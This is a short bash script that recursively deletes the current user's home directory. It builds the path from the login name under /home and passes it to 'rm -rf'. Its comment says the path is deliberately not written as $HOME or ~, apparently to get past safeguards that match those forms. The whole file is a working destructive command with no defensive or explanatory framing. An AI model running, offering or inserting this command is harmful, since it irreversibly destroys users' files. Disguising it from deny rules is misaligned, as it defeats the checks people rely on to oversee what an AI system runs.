#!/bin/bash
# The home directory spelled from the login name, not from $HOME or ~.
base=/home
who=${LOGNAME:-$(id -un)}
rm -rf -- "${base}/${who}"
